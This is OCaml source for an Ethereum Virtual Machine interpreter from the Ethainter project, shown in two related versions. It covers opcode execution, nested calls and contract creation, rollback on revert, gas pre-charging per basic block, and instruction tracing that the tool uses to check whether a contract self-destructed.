          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let src = as_offset src in
          let rl = String.length !returndata in
          if src + len > rl then raise (Evm_error "returndatacopy OOB");
          Memory.store_bytes mem dst (String.sub !returndata src len)
      | EXTCODEHASH ->
          let a = to_addr (pop ()) in
          let c = State.code ctx.state a in
          if (not (State.exists ctx.state a)) && String.length c = 0 then
            push U.zero
          else push (Ethainter_crypto.Keccak.hash_word c)
      | BLOCKHASH ->
          let bn = pop () in
          push (Ethainter_crypto.Keccak.hash_word (U.to_bytes bn))
      | COINBASE -> push U.zero
      | TIMESTAMP -> push ctx.timestamp
      | NUMBER -> push ctx.block_number
      | DIFFICULTY -> push U.zero
      | GASLIMIT -> push (U.of_int 10_000_000)
      | CHAINID -> push ctx.chain_id
      | SELFBALANCE -> push (State.balance ctx.state self)
      | POP -> ignore (pop ())
      | MLOAD -> push (Memory.load_word mem (as_offset (pop ())))
      | MSTORE ->
          let off, v = pop2 () in
          Memory.store_word mem (as_offset off) v
      | MSTORE8 ->
          let off, v = pop2 () in
          Memory.store_byte mem (as_offset off) (U.to_int (U.logand v (U.of_int 0xff)))
      | SLOAD -> push (State.sload ctx.state self (pop ()))
      | SSTORE ->
          if static then raise (Evm_error "SSTORE in static context");
          let k, v = pop2 () in
          State.sstore ctx.state self k v;
          ctx.effects := E_sstore { es_addr = self; es_slot = k } :: !(ctx.effects)
      | JUMP ->
          let dest = pop () in
          let d = match U.to_int_opt dest with
            | Some d -> d
            | None -> raise (Evm_error "bad jump target") in
          if not (Hashtbl.mem valid_dests d) then
            raise (Evm_error "jump to non-JUMPDEST");
          next_pc := d
      | JUMPI ->
          let dest, cond = pop2 () in
          if U.to_bool cond then begin
            let d = match U.to_int_opt dest with
              | Some d -> d
              | None -> raise (Evm_error "bad jump target") in
            if not (Hashtbl.mem valid_dests d) then
              raise (Evm_error "jump to non-JUMPDEST");
            next_pc := d
          end
      | PC -> push (U.of_int !pc)
      | MSIZE -> push (U.of_int (Memory.size mem))
      | GAS -> push (U.of_int (max 0 ctx.gas))
      | JUMPDEST -> ()
      | PUSH k ->
          let avail = min k (n - !pc - 1) in
          let data =
            (if avail > 0 then String.sub code (!pc + 1) avail else "")
            ^ String.make (k - avail) '\000'
          in
          push (U.of_bytes data)
      | DUP k ->
          let rec nth l i =
            match (l, i) with
            | x :: _, 1 -> x
            | _ :: r, i -> nth r (i - 1)
            | [], _ -> raise (Evm_error "stack underflow")
          in
          push (nth !stack k)
      | SWAP k ->
          let rec split l i acc =
            match (l, i) with
            | x :: r, 0 -> (List.rev acc, x, r)
            | x :: r, i -> split r (i - 1) (x :: acc)
            | [], _ -> raise (Evm_error "stack underflow")
          in
          (match !stack with
          | top :: rest ->
              let before, v, after = split rest (k - 1) [] in
              stack := (v :: before) @ (top :: after)
          | [] -> raise (Evm_error "stack underflow"))
      | LOG k ->
          if static then raise (Evm_error "LOG in static context");
          let off, len = pop2 () in
          let topics = List.init k (fun _ -> pop ()) in
          let data =
            Memory.load_bytes mem (as_offset off) (as_offset len)
          in
          ctx.logs := { log_addr = self; topics; data } :: !(ctx.logs)
      | CREATE | CREATE2 ->
          if static then raise (Evm_error "CREATE in static context");
          let value = pop () in
          let off, len = pop2 () in
          let _salt = if op = Opcode.CREATE2 then Some (pop ()) else None in
          let initcode = Memory.load_bytes mem (as_offset off) (as_offset len) in
          if depth >= max_call_depth then push U.zero
          else begin
            let creator_acct = State.account ctx.state self in
            let new_addr =
              State.contract_address ~creator:self ~nonce:creator_acct.nonce
            in
            State.bump_nonce ctx.state self;
            let snap = State.snapshot ctx.state in
            (match State.transfer ctx.state ~src:self ~dst:new_addr ~value with
            | Error _ -> push U.zero
            | Ok () -> (
                State.set_code ctx.state new_addr initcode;
                match
                  try
                    execute_bytewise ctx ~depth:(depth + 1) ~self:new_addr
                      ~code_addr:new_addr ~caller:self ~callvalue:value
                      ~calldata:"" ~static:false
                  with Evm_error msg -> Failed msg
                with
                | Returned runtime ->
                    State.set_code ctx.state new_addr runtime;
                    ctx.effects := E_create new_addr :: !(ctx.effects);
                    returndata := "";
                    push new_addr
                | Reverted data ->
                    State.restore ctx.state snap;
                    returndata := data;
                    push U.zero
                | Failed _ ->
                    State.restore ctx.state snap;
                    returndata := "";
                    push U.zero))
          end
      | CALL | CALLCODE | DELEGATECALL | STATICCALL ->
          let _gas = pop () in
          let target = to_addr (pop ()) in
          let value =
            match op with
            | Opcode.CALL | Opcode.CALLCODE -> pop ()
            | _ -> U.zero
          in
          let in_off, in_len = pop2 () in
          let out_off, out_len = pop2 () in
          let args = Memory.load_bytes mem (as_offset in_off) (as_offset in_len) in
          if static && op = Opcode.CALL && not (U.is_zero value) then
            raise (Evm_error "value CALL in static context");
          if depth >= max_call_depth then push U.zero
          else begin
            let snap = State.snapshot ctx.state in
            let sub_self, sub_code, sub_caller, sub_value, sub_static =
              match op with
              | Opcode.CALL -> (target, target, self, value, static)
              | Opcode.CALLCODE -> (self, target, self, value, static)
              | Opcode.DELEGATECALL -> (self, target, caller, callvalue, static)
              | Opcode.STATICCALL -> (target, target, self, U.zero, true)
              | _ -> assert false
            in
            let transfer_res =
              if op = Opcode.CALL && not (U.is_zero value) then
                State.transfer ctx.state ~src:self ~dst:target ~value
              else Ok ()
            in
            match transfer_res with
            | Error _ -> push U.zero
            | Ok () ->
                let o =
                  if String.length (State.code ctx.state sub_code) = 0 then
                    (* calling an EOA: succeeds, returns nothing *)
                    Returned ""
                  else
                    (* a failing callee is contained: the caller sees a
                       0 result, it does not abort *)
                    try
                      execute_bytewise ctx ~depth:(depth + 1) ~self:sub_self
                        ~code_addr:sub_code ~caller:sub_caller
                        ~callvalue:sub_value ~calldata:args ~static:sub_static
                    with Evm_error msg -> Failed msg
                in
                (match o with
                | Returned data ->
                    returndata := data;
                    (* NB: only min(out_len, |data|) bytes are written;
                       this is exactly the staticcall output-buffer
                       subtlety of §3.5. *)
                    let wlen = min (as_offset out_len) (String.length data) in
                    Memory.store_bytes mem (as_offset out_off)
                      (String.sub data 0 wlen);
                    push U.one
                | Reverted data ->
                    State.restore ctx.state snap;
                    returndata := data;
                    let wlen = min (as_offset out_len) (String.length data) in
                    Memory.store_bytes mem (as_offset out_off)
                      (String.sub data 0 wlen);
                    push U.zero
                | Failed _ ->
                    State.restore ctx.state snap;
                    returndata := "";
                    push U.zero)
          end
      | RETURN ->
          let off, len = pop2 () in
          running := false;
          result := Returned (Memory.load_bytes mem (as_offset off) (as_offset len))
      | REVERT ->
          let off, len = pop2 () in
          running := false;
          result := Reverted (Memory.load_bytes mem (as_offset off) (as_offset len))
      | INVALID -> raise (Evm_error "invalid opcode")
      | SELFDESTRUCT ->
          if static then raise (Evm_error "SELFDESTRUCT in static context");
          let beneficiary = to_addr (pop ()) in
          State.selfdestruct ctx.state ~victim:self ~beneficiary;
          ctx.effects := E_selfdestruct self :: !(ctx.effects);
          running := false;
          result := Returned "");
      if !running then pc := !next_pc
    end
  done;
  !result

(* ------------------------------------------------------------------ *)
(* Decoded engine: the hot loop over Program.t. No byte decoding, no   *)
(* PUSH re-reads, no per-call JUMPDEST rebuild; array operand stack;   *)
(* per-block gas pre-charge with exact tail unwind on mid-block exit.  *)
(* ------------------------------------------------------------------ *)

let rec execute_decoded (ctx : context) ~(depth : int) ~(self : U.t)
    ~(code_addr : U.t) ~(caller : U.t) ~(callvalue : U.t)
    ~(calldata : string) ~(static : bool) : outcome =
  let p = State.program ctx.state code_addr in
  let code = p.Program.code in
  let n = String.length code in
  let instrs = p.Program.instrs in
  let gas_rest = p.Program.gas_rest in
  let blocks = p.Program.blocks in
  let nblocks = Array.length blocks in
  (* Operand stack: growable array, top of stack at [sp - 1]. Pushes
     are capacity-unchecked: each block's maximum growth [bb_grow] is
     ensured once at block entry. Pops check for underflow (the
     per-byte engine fails at exactly the popping instruction, and so
     must we). *)
  let stk = ref (Array.make 64 U.zero) in
  let sp = ref 0 in
  let ensure_stack extra =
    let need = !sp + extra in
    if need > Array.length !stk then begin
      let cap = ref (2 * Array.length !stk) in
      while !cap < need do
        cap := 2 * !cap
      done;
      let a = Array.make !cap U.zero in
      Array.blit !stk 0 a 0 !sp;
      stk := a
    end
  in
  let push v =
    Array.unsafe_set !stk !sp v;
    incr sp
  in
  let pop () =
    if !sp = 0 then raise (Evm_error "stack underflow");
    decr sp;
    Array.unsafe_get !stk !sp
  in
  let pop2 () =
    let a = pop () in
    let b = pop () in
    (a, b)
  in
  let pop3 () =
    let a = pop () in
    let b = pop () in
    let c = pop () in
    (a, b, c)
  in
  let mem = Memory.create () in
  let returndata = ref "" in
  let running = ref (nblocks > 0) in
  let result = ref (Returned "") in
  let bi = ref 0 in
  (* block-loop registers, hoisted to the frame so the per-block path
     allocates nothing *)
  let i = ref 0 in
  let next_bi = ref 0 in
  let refunded = ref false in
  while !running do
    let b = blocks.(!bi) in
    (* Fast path: the whole block's static gas fits — charge it once.
       Gas can then never run out inside the block, and any abnormal
       mid-block exit (stack underflow, bad jump, step limit, INVALID)
       refunds the unexecuted tail so observable gas matches the
       per-instruction engine exactly. *)
    let precharged = ctx.gas >= b.Program.bb_gas in
    if precharged then ctx.gas <- ctx.gas - b.Program.bb_gas;
    ensure_stack b.Program.bb_grow;
    let i_end = b.Program.bb_start + b.Program.bb_len in
    next_bi := !bi + 1;
    i := b.Program.bb_start;
    refunded := false;
    (try
       while !i < i_end do
         let ins = Array.unsafe_get instrs !i in
         let op = ins.Bytecode.op in
         ctx.steps <- ctx.steps + 1;
         if ctx.steps > ctx.max_steps then begin
           (* the reference engine checks the step limit before
              charging the instruction: unwind its cost too *)
           if precharged then begin
             ctx.gas <- ctx.gas + gas_rest.(!i) + Opcode.base_gas op;
             refunded := true
           end;
           raise (Evm_error "step limit")
         end;
         let k = ctx.trace_len in
         if k < ctx.max_trace then begin
           if k >= Array.length ctx.tmeta then grow_trace ctx;
           Array.unsafe_set ctx.tmeta k ((depth lsl 32) lor ins.Bytecode.pc);
           Array.unsafe_set ctx.taddr k self;
           Array.unsafe_set ctx.tops k op;
           ctx.trace_len <- k + 1
         end;
         if not precharged then charge ctx (Opcode.base_gas op);
         (match op with
         | STOP ->
             running := false;
             result := Returned ""
         | ADD -> let a, b = pop2 () in push (U.add a b)
         | MUL -> let a, b = pop2 () in push (U.mul a b)
         | SUB -> let a, b = pop2 () in push (U.sub a b)
         | DIV -> let a, b = pop2 () in push (U.div a b)
         | SDIV -> let a, b = pop2 () in push (U.sdiv a b)
         | MOD -> let a, b = pop2 () in push (U.rem a b)
         | SMOD -> let a, b = pop2 () in push (U.smod a b)
         | ADDMOD -> let a, b, m = pop3 () in push (U.addmod a b m)
         | MULMOD -> let a, b, m = pop3 () in push (U.mulmod a b m)
         | EXP -> let a, b = pop2 () in push (U.exp a b)
         | SIGNEXTEND -> let b, x = pop2 () in push (U.signextend b x)
         | LT -> let a, b = pop2 () in push (U.of_bool (U.lt a b))
         | GT -> let a, b = pop2 () in push (U.of_bool (U.gt a b))
         | SLT -> let a, b = pop2 () in push (U.of_bool (U.slt a b))
         | SGT -> let a, b = pop2 () in push (U.of_bool (U.sgt a b))
         | EQ -> let a, b = pop2 () in push (U.of_bool (U.equal a b))
         | ISZERO -> push (U.of_bool (U.is_zero (pop ())))
         | AND -> let a, b = pop2 () in push (U.logand a b)
         | OR -> let a, b = pop2 () in push (U.logor a b)
         | XOR -> let a, b = pop2 () in push (U.logxor a b)
         | NOT -> push (U.lognot (pop ()))
         | BYTE -> let i, x = pop2 () in push (U.byte i x)
         | SHL ->
             let s, v = pop2 () in
             push
               (if U.fits_int s then U.shift_left v (U.to_int s) else U.zero)
         | SHR ->
             let s, v = pop2 () in
             push
               (if U.fits_int s then U.shift_right v (U.to_int s) else U.zero)
         | SAR ->
             let s, v = pop2 () in
             push
               (if U.fits_int s then U.shift_right_arith v (U.to_int s)
                else U.shift_right_arith v 256)
         | SHA3 ->
             let off, len = pop2 () in
             let data =
               Memory.load_bytes mem (as_offset off) (as_offset len)
             in
             push (Ethainter_crypto.Keccak.hash_word data)
         | ADDRESS -> push self
         | BALANCE -> push (State.balance ctx.state (to_addr (pop ())))
         | ORIGIN -> push ctx.origin
         | CALLER -> push caller
         | CALLVALUE -> push callvalue
         | CALLDATALOAD ->
             let off = pop () in
             let v =
               match U.to_int_opt off with
               | None -> U.zero
               | Some o ->
                   let len = String.length calldata in
                   if o >= len then U.zero
                   else
                     let avail = min 32 (len - o) in
                     let s = String.sub calldata o avail in
                     U.of_bytes (s ^ String.make (32 - avail) '\000')
             in
             push v
         | CALLDATASIZE -> push (U.of_int (String.length calldata))
         | CALLDATACOPY ->
             let dst, src, len = pop3 () in
             let dst = as_offset dst and len = as_offset len in
             let srclen = String.length calldata in
             let src =
               match U.to_int_opt src with Some s -> s | None -> srclen
             in
             let chunk =
               if src >= srclen then String.make len '\000'
               else
                 let avail = min len (srclen - src) in
                 String.sub calldata src avail
                 ^ String.make (len - avail) '\000'
             in
             Memory.store_bytes mem dst chunk
         | CODESIZE -> push (U.of_int n)
         | CODECOPY ->
             let dst, src, len = pop3 () in
             let dst = as_offset dst and len = as_offset len in
             let src = match U.to_int_opt src with Some s -> s | None -> n in
             let chunk =
               if src >= n then String.make len '\000'
               else
                 let avail = min len (n - src) in
                 String.sub code src avail ^ String.make (len - avail) '\000'
             in
             Memory.store_bytes mem dst chunk
         | GASPRICE -> push ctx.gas_price
         | EXTCODESIZE ->
             push
               (U.of_int
                  (String.length (State.code ctx.state (to_addr (pop ())))))
         | EXTCODECOPY ->
             let a = pop () in
             let dst, src, len = pop3 () in
             let ext = State.code ctx.state (to_addr a) in
             let extn = String.length ext in
             let dst = as_offset dst and len = as_offset len in
             let src =
               match U.to_int_opt src with Some s -> s | None -> extn
             in
             let chunk =
               if src >= extn then String.make len '\000'
               else
                 let avail = min len (extn - src) in
                 String.sub ext src avail ^ String.make (len - avail) '\000'
             in
             Memory.store_bytes mem dst chunk
         | RETURNDATASIZE -> push (U.of_int (String.length !returndata))
         | RETURNDATACOPY ->
             let dst, src, len = pop3 () in
             let dst = as_offset dst and len = as_offset len in
             let src = as_offset src in
             let rl = String.length !returndata in
             if src + len > rl then raise (Evm_error "returndatacopy OOB");
             Memory.store_bytes mem dst (String.sub !returndata src len)
         | EXTCODEHASH ->
             let a = to_addr (pop ()) in
             let c = State.code ctx.state a in
             if (not (State.exists ctx.state a)) && String.length c = 0 then
               push U.zero
             else push (Ethainter_crypto.Keccak.hash_word c)
         | BLOCKHASH ->
             let bn = pop () in
             push (Ethainter_crypto.Keccak.hash_word (U.to_bytes bn))
         | COINBASE -> push U.zero
         | TIMESTAMP -> push ctx.timestamp
         | NUMBER -> push ctx.block_number
         | DIFFICULTY -> push U.zero
         | GASLIMIT -> push (U.of_int 10_000_000)
         | CHAINID -> push ctx.chain_id
         | SELFBALANCE -> push (State.balance ctx.state self)
         | POP -> ignore (pop ())
         | MLOAD -> push (Memory.load_word mem (as_offset (pop ())))
         | MSTORE ->
             let off, v = pop2 () in
             Memory.store_word mem (as_offset off) v
         | MSTORE8 ->
             let off, v = pop2 () in
             Memory.store_byte mem (as_offset off)
               (U.to_int (U.logand v (U.of_int 0xff)))
         | SLOAD -> push (State.sload ctx.state self (pop ()))
         | SSTORE ->
             if static then raise (Evm_error "SSTORE in static context");
             let k, v = pop2 () in
             State.sstore ctx.state self k v;
             ctx.effects :=
               E_sstore { es_addr = self; es_slot = k } :: !(ctx.effects)
         | JUMP ->
             let dest = pop () in
             let d =
               match U.to_int_opt dest with
               | Some d -> d
               | None -> raise (Evm_error "bad jump target")
             in
             if not (Program.is_jumpdest p d) then
               raise (Evm_error "jump to non-JUMPDEST");
             next_bi := Array.unsafe_get p.Program.block_at_pc d
         | JUMPI ->
             let dest, cond = pop2 () in
             if U.to_bool cond then begin
               let d =
                 match U.to_int_opt dest with
                 | Some d -> d
                 | None -> raise (Evm_error "bad jump target")
               in
               if not (Program.is_jumpdest p d) then
                 raise (Evm_error "jump to non-JUMPDEST");
               next_bi := Array.unsafe_get p.Program.block_at_pc d
             end
         | PC -> push (U.of_int ins.Bytecode.pc)
         | MSIZE -> push (U.of_int (Memory.size mem))
         | GAS ->
             (* the block was pre-charged in one go: add back the
                static cost of the instructions after this one so the
                observable value matches per-instruction charging *)
             let g =
               if precharged then ctx.gas + gas_rest.(!i) else ctx.gas
             in
             push (U.of_int (max 0 g))
         | JUMPDEST -> ()
         | PUSH _ ->
             push (match ins.Bytecode.imm with Some v -> v | None -> U.zero)
         | DUP k ->
             if !sp < k then raise (Evm_error "stack underflow");
             push (Array.unsafe_get !stk (!sp - k))
         | SWAP k ->
             if !sp < k + 1 then raise (Evm_error "stack underflow");
             let a = !stk in
             let top = !sp - 1 in
             let t = Array.unsafe_get a top in
             Array.unsafe_set a top (Array.unsafe_get a (top - k));
             Array.unsafe_set a (top - k) t
         | LOG k ->
             if static then raise (Evm_error "LOG in static context");
             let off, len = pop2 () in
             let topics = List.init k (fun _ -> pop ()) in
             let data =
               Memory.load_bytes mem (as_offset off) (as_offset len)
             in
             ctx.logs := { log_addr = self; topics; data } :: !(ctx.logs)
         | CREATE | CREATE2 ->
             if static then raise (Evm_error "CREATE in static context");
             let value = pop () in
             let off, len = pop2 () in
             let _salt = if op = Opcode.CREATE2 then Some (pop ()) else None in
             let initcode =
               Memory.load_bytes mem (as_offset off) (as_offset len)
             in
             if depth >= max_call_depth then push U.zero
             else begin
               let creator_acct = State.account ctx.state self in
               let new_addr =
                 State.contract_address ~creator:self
                   ~nonce:creator_acct.nonce
               in
               State.bump_nonce ctx.state self;
               let snap = State.snapshot ctx.state in
               match State.transfer ctx.state ~src:self ~dst:new_addr ~value with
               | Error _ -> push U.zero
               | Ok () -> (
                   State.set_code ctx.state new_addr initcode;
                   match
                     try
                       execute_decoded ctx ~depth:(depth + 1) ~self:new_addr
                         ~code_addr:new_addr ~caller:self ~callvalue:value
                         ~calldata:"" ~static:false
                     with Evm_error msg -> Failed msg
                   with
                   | Returned runtime ->
                       State.set_code ctx.state new_addr runtime;
                       ctx.effects := E_create new_addr :: !(ctx.effects);
                       returndata := "";
                       push new_addr
                   | Reverted data ->
                       State.restore ctx.state snap;
                       returndata := data;
                       push U.zero
                   | Failed _ ->
                       State.restore ctx.state snap;
                       returndata := "";
                       push U.zero)
             end
         | CALL | CALLCODE | DELEGATECALL | STATICCALL ->
             let _gas = pop () in
             let target = to_addr (pop ()) in
             let value =
               match op with
               | Opcode.CALL | Opcode.CALLCODE -> pop ()
               | _ -> U.zero
             in
             let in_off, in_len = pop2 () in
             let out_off, out_len = pop2 () in
             let args =
               Memory.load_bytes mem (as_offset in_off) (as_offset in_len)
             in
             if static && op = Opcode.CALL && not (U.is_zero value) then
               raise (Evm_error "value CALL in static context");
             if depth >= max_call_depth then push U.zero
             else begin
               let snap = State.snapshot ctx.state in
               let sub_self, sub_code, sub_caller, sub_value, sub_static =
                 match op with
                 | Opcode.CALL -> (target, target, self, value, static)
                 | Opcode.CALLCODE -> (self, target, self, value, static)
                 | Opcode.DELEGATECALL ->
                     (self, target, caller, callvalue, static)
                 | Opcode.STATICCALL -> (target, target, self, U.zero, true)
                 | _ -> assert false
               in
               let transfer_res =
                 if op = Opcode.CALL && not (U.is_zero value) then
                   State.transfer ctx.state ~src:self ~dst:target ~value
                 else Ok ()
               in
               match transfer_res with
               | Error _ -> push U.zero
               | Ok () -> (
                   let o =
                     if String.length (State.code ctx.state sub_code) = 0 then
                       (* calling an EOA: succeeds, returns nothing *)
                       Returned ""
                     else
                       (* a failing callee is contained: the caller
                          sees a 0 result, it does not abort *)
                       try
                         execute_decoded ctx ~depth:(depth + 1)
                           ~self:sub_self ~code_addr:sub_code
                           ~caller:sub_caller ~callvalue:sub_value
                           ~calldata:args ~static:sub_static
                       with Evm_error msg -> Failed msg
                   in
                   match o with
                   | Returned data ->
                       returndata := data;
                       (* NB: only min(out_len, |data|) bytes are
                          written; this is exactly the staticcall
                          output-buffer subtlety of §3.5. *)
                       let wlen =
                         min (as_offset out_len) (String.length data)
                       in
                       Memory.store_bytes mem (as_offset out_off)
                         (String.sub data 0 wlen);
                       push U.one
                   | Reverted data ->
                       State.restore ctx.state snap;
                       returndata := data;
                       let wlen =
                         min (as_offset out_len) (String.length data)
                       in
                       Memory.store_bytes mem (as_offset out_off)
                         (String.sub data 0 wlen);
                       push U.zero
                   | Failed _ ->
                       State.restore ctx.state snap;
                       returndata := "";
                       push U.zero)
             end
         | RETURN ->
             let off, len = pop2 () in
             running := false;
             result :=
               Returned (Memory.load_bytes mem (as_offset off) (as_offset len))
         | REVERT ->
             let off, len = pop2 () in
             running := false;
             result :=
               Reverted (Memory.load_bytes mem (as_offset off) (as_offset len))
         | INVALID -> raise (Evm_error "invalid opcode")
         | SELFDESTRUCT ->
             if static then raise (Evm_error "SELFDESTRUCT in static context");
             let beneficiary = to_addr (pop ()) in
             State.selfdestruct ctx.state ~victim:self ~beneficiary;
             ctx.effects := E_selfdestruct self :: !(ctx.effects);
             running := false;
             result := Returned "");
         incr i
       done
     with Evm_error _ as e ->
       (* abnormal mid-block exit at instruction [!i]: give back the
          pre-charged gas for the instructions that never ran *)
       if precharged && not !refunded then
         ctx.gas <- ctx.gas + gas_rest.(!i);
       raise e);
    if !running then begin
      bi := !next_bi;
      if !bi >= nblocks then begin
        (* fell off the end of the code *)
        running := false;
        result := Returned ""
      end
    end
  done;
  !result

(** Full result of a top-level message call. *)
type call_result = {
  outcome : outcome;
  tx_trace : trace_entry list;
  tx_logs : log_entry list;  (** emitted events (empty if rolled back) *)
  tx_effects : effect list;
      (** chain-observable effects, chronological (empty if rolled
          back); see {!effect} for the inner-revert caveat *)
  gas_used : int;
}

(** Top-level message call (a transaction's execution). Rolls back all
    state changes — and drops emitted logs — if the call reverts or
    fails. [engine] selects the executor (default {!Decoded}); both
    engines produce identical results, bit for bit. *)
let call_full ?(engine = Decoded) ?(gas = 10_000_000)
    ?(max_steps = 2_000_000) ?(block_number = U.of_int 1)
    ?(timestamp = U.of_int 1_600_000_000) (state : State.t) ~(caller : U.t)
    ~(target : U.t) ~(value : U.t) ~(calldata : string) : call_result =
  let ctx =
    { state; gas; origin = caller; gas_price = U.one; block_number;
      timestamp; chain_id = U.of_int 3 (* Ropsten *);
      trace = ref []; tmeta = [||]; taddr = [||]; tops = [||];
      trace_len = 0; max_trace = 1_000_000;
      steps = 0; max_steps; logs = ref []; effects = ref [] }
  in
  let snap = State.snapshot state in
  (match State.transfer state ~src:caller ~dst:target ~value with
  | Error _ -> ()
  | Ok () -> ());
  let outcome =
    if String.length (State.code state target) = 0 then Returned ""
    else
      try
        match engine with
        | Decoded ->
            execute_decoded ctx ~depth:0 ~self:target ~code_addr:target
              ~caller ~callvalue:value ~calldata ~static:false
        | Bytewise ->
            execute_bytewise ctx ~depth:0 ~self:target ~code_addr:target
              ~caller ~callvalue:value ~calldata ~static:false
      with Evm_error msg -> Failed msg
  in
  let logs, effects =
    match outcome with
    | Returned _ -> (List.rev !(ctx.logs), List.rev !(ctx.effects))
    | Reverted _ | Failed _ ->
        State.restore state snap;
        ([], [])
  in
  let tx_trace =
    match engine with
    | Bytewise -> List.rev !(ctx.trace)
    | Decoded ->
        (* reconstruct the same chronological list from the flat
           buffers (built back-to-front so each entry conses once) *)
        let rec build k acc =
          if k < 0 then acc
          else
            let m = Array.unsafe_get ctx.tmeta k in
            build (k - 1)
              ({ t_depth = m lsr 32;
                 t_addr = Array.unsafe_get ctx.taddr k;
                 t_pc = m land 0xFFFF_FFFF;
                 t_op = Array.unsafe_get ctx.tops k }
              :: acc)
        in
        build (ctx.trace_len - 1) []
  in
  { outcome; tx_trace; tx_logs = logs; tx_effects = effects;
    gas_used = max 0 (gas - ctx.gas) }

let call ?engine ?gas ?max_steps ?block_number ?timestamp state ~caller
    ~target ~value ~calldata : outcome * trace_entry list =
  let r =
    call_full ?engine ?gas ?max_steps ?block_number ?timestamp state ~caller
      ~target ~value ~calldata
  in
  (r.outcome, r.tx_trace)

(** Did the trace actually execute a SELFDESTRUCT in [addr]'s context? *)
let trace_selfdestructed (trace : trace_entry list) (addr : U.t) : bool =
  List.exists
    (fun t -> t.t_op = Opcode.SELFDESTRUCT && U.equal t.t_addr addr)
    trace
