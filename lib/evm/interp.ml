(** The EVM interpreter.

    Executes EVM bytecode against a {!State.t}, with full message-call
    semantics ([CALL], [DELEGATECALL], [STATICCALL], [CALLCODE],
    [CREATE]), revert/rollback, gas accounting, and an instruction
    trace. The trace is how Ethainter-Kill confirms an exploit: the
    paper verifies destruction "by analyzing the exact VM instruction
    trace and identifying whether the selfdestruct opcode was
    executed" (§6.1).

    Two engines execute the same semantics:

    - {b Decoded} (the default): runs over the pre-decoded basic-block
      {!Program.t} for the contract — one decode per unique code hash
      process-wide, an array operand stack, and per-block gas
      pre-charging (a block whose static cost fits the remaining gas
      is charged once at entry; any mid-block exit unwinds the
      unexecuted tail via [Program.gas_rest], so observable gas is
      bit-identical to per-instruction charging).
    - {b Bytewise}: the reference per-byte interpreter (decode each
      opcode from the raw string at each step, rebuild the JUMPDEST
      set per call frame, list operand stack). Kept verbatim as the
      differential baseline; the test suite asserts both engines
      produce identical traces, outcomes, gas and effects. *)

module U = Ethainter_word.Uint256

exception Evm_error of string

type log_entry = { log_addr : U.t; topics : U.t list; data : string }

(** One trace record per executed instruction. *)
type trace_entry = {
  t_depth : int;
  t_addr : U.t;   (** executing contract (storage context) *)
  t_pc : int;
  t_op : Opcode.t;
}

type call_kind = Call | DelegateCall | StaticCall | CallCode

(** Chain-observable side effects of an execution, in chronological
    order — what a block-stream consumer (the testnet's block
    observer, the streaming index's invalidation logic) needs without
    re-deriving it from the instruction trace. Effects performed
    inside an {e inner} call that later reverted are not trimmed
    (neither is the trace); a consumer treating each effect as "this
    state {e may} have changed" over-approximates, which is the sound
    direction for cache invalidation. Effects of a reverted or failed
    {e top-level} call are dropped, like logs. *)
type effect =
  | E_sstore of { es_addr : U.t; es_slot : U.t }
      (** storage write: contract [es_addr], slot [es_slot] *)
  | E_create of U.t     (** successful CREATE/CREATE2: new contract *)
  | E_selfdestruct of U.t

type context = {
  state : State.t;
  mutable gas : int;
  origin : U.t;
  gas_price : U.t;
  block_number : U.t;
  timestamp : U.t;
  chain_id : U.t;
  trace : trace_entry list ref;       (** bytewise engine: reversed list *)
  (* The decoded engine records the trace into a flat int array
     instead — one immediate store per executed instruction, no
     pointer writes (a pointer-array store is a [caml_modify] write
     barrier per step). Each entry packs pc (bits 0-23, EVM code is
     capped at 24 KB), the canonical opcode byte (24-31), depth
     (32-42) and a frame id (43-62). [faddr] maps frame id to the
     executing address, written once per frame; ids are assigned
     lazily at a frame's first recorded entry, so they are bounded by
     [max_trace] (<= 2^20 given the 1M trace cap). Both engines
     reconstruct the identical [trace_entry list] in [call_full];
     [trace_len] counts entries for either. *)
  mutable tmeta : int array;
  mutable faddr : U.t array;
  mutable nframes : int;
  mutable trace_len : int;
  max_trace : int;
  mutable steps : int;
  max_steps : int;
  logs : log_entry list ref;          (** reversed; newest first *)
  effects : effect list ref;          (** reversed; newest first *)
}

(* Grow the decoded engine's flat trace buffers (amortized doubling,
   capped at [max_trace]). Allocated lazily: the bytewise engine never
   touches them. *)
let grow_trace (ctx : context) =
  let old = Array.length ctx.tmeta in
  let cap = if old = 0 then 64 else min ctx.max_trace (2 * old) in
  let tmeta = Array.make cap 0 in
  Array.blit ctx.tmeta 0 tmeta 0 old;
  ctx.tmeta <- tmeta

let grow_faddr (ctx : context) =
  let old = Array.length ctx.faddr in
  let cap = if old = 0 then 16 else 2 * old in
  let a = Array.make cap U.zero in
  Array.blit ctx.faddr 0 a 0 old;
  ctx.faddr <- a

type outcome =
  | Returned of string
  | Reverted of string
  | Failed of string (* out of gas, invalid op, stack error ... *)

(** Which executor runs the bytecode; see the module header. *)
type engine = Decoded | Bytewise

(* Byte-addressed, lazily grown EVM memory. *)
module Memory = struct
  type t = { mutable data : Bytes.t; mutable size : int }

  let create () = { data = Bytes.make 1024 '\000'; size = 0 }

  (* [size] is the MSIZE value: the touched extent rounded up to a
     32-byte word boundary. Capacity must cover that *rounded* size —
     rounding only the size once produced size > capacity (e.g.
     capacity 1024, [ensure 2049] -> capacity 2049 but size 2080),
     and the next growth's [Bytes.blit _ 0 _ 0 m.size] then raised
     [Invalid_argument] while MSIZE reported bytes never allocated. *)
  let ensure m n =
    if n > m.size then begin
      let sz = ((n + 31) / 32) * 32 in
      if sz > Bytes.length m.data then begin
        let cap = max sz (2 * Bytes.length m.data) in
        let d = Bytes.make cap '\000' in
        Bytes.blit m.data 0 d 0 m.size;
        m.data <- d
      end;
      m.size <- sz
    end

  let load_word m off =
    ensure m (off + 32);
    U.of_bytes (Bytes.sub_string m.data off 32)

  let store_word m off v =
    ensure m (off + 32);
    Bytes.blit_string (U.to_bytes v) 0 m.data off 32

  (* Allocation-free variants for the decoded engine's owned stack
     slots. *)
  let load_word_into m off (dst : U.t) =
    ensure m (off + 32);
    U.load_be_into dst m.data off

  let store_word_from m off (src : U.t) =
    ensure m (off + 32);
    U.store_be src m.data off

  let store_byte m off v =
    ensure m (off + 1);
    Bytes.set m.data off (Char.chr (v land 0xff))

  let load_bytes m off len =
    if len = 0 then ""
    else begin
      ensure m (off + len);
      Bytes.sub_string m.data off len
    end

  let store_bytes m off (s : string) =
    if String.length s > 0 then begin
      ensure m (off + String.length s);
      Bytes.blit_string s 0 m.data off (String.length s)
    end

  let size m = m.size
end

let max_call_depth = 1024

(* Charge gas; raise when exhausted. *)
let charge ctx amount =
  ctx.gas <- ctx.gas - amount;
  if ctx.gas < 0 then raise (Evm_error "out of gas")

